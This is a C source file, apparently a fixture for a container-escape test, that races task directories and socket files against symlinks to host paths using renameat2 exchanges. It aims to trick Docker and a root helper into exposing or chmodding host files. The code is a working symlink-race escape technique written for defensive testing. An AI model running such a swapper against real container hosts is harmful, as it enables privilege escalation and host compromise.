/*
 * A hostile grading-side helper for the escape test (test_agent.py,
 * test_hostile_grader_cannot_reach_the_host). It runs inside a grading
 * container, as the task's `worker`, and loops for ever:
 *   - exchanging /task/student, /task/student/scripts and /task/systemfiles
 *     with symlinks to HOSTDIR (an absolute path on the *host*);
 *   - exchanging every /sockets/<id>.sock with a symlink to HOSTSOCK.
 * An agent that hands Docker a path through any of these lets Docker resolve
 * the symlink on the host: the student container then sees HOSTDIR or
 * connects to HOSTSOCK, and the intern chmods HOSTDIR/... as root.
 * Static, libc only: it is copied into the task directory by the test.
 *   usage: swapper HOSTDIR HOSTSOCK
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static void swap_twice(const char *path, const char *link)
{
    // Each exchange puts the symlink where the directory was; the second
    // puts it back, so the task still finds a directory half of the time.
    if (renameat2(AT_FDCWD, path, AT_FDCWD, link, RENAME_EXCHANGE) == 0)
        renameat2(AT_FDCWD, path, AT_FDCWD, link, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: swapper HOSTDIR HOSTSOCK\n");
        return 2;
    }
    static const char *const dirs[][2] = {
        {"/task/student", "/task/.swap-student"},
        {"/task/student/scripts", "/task/.swap-scripts"},
        {"/task/systemfiles", "/task/.swap-systemfiles"},
    };
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        unlink(dirs[i][1]);
        if (symlink(argv[1], dirs[i][1]) < 0)
            perror("swapper: symlink");
    }
    unsigned long rounds = 0;
    for (;;) {
        for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++)
            swap_twice(dirs[i][0], dirs[i][1]);
        DIR *d = opendir("/sockets");
        for (struct dirent *e; d && (e = readdir(d));) {
            size_t n = strlen(e->d_name);
            if (n < 6 || strcmp(e->d_name + n - 5, ".sock") || !strcmp(e->d_name, "main.sock"))
                continue;
            char path[512], link[512];
            snprintf(path, sizeof path, "/sockets/%s", e->d_name);
            snprintf(link, sizeof link, "/sockets/.swap-%s", e->d_name);
            unlink(link);
            if (symlink(argv[2], link) == 0)
                swap_twice(path, link);
            unlink(link);
        }
        if (d)
            closedir(d);
        if (++rounds % 100000 == 0)
            fprintf(stderr, "swapper: %lu rounds\n", rounds);
    }
}
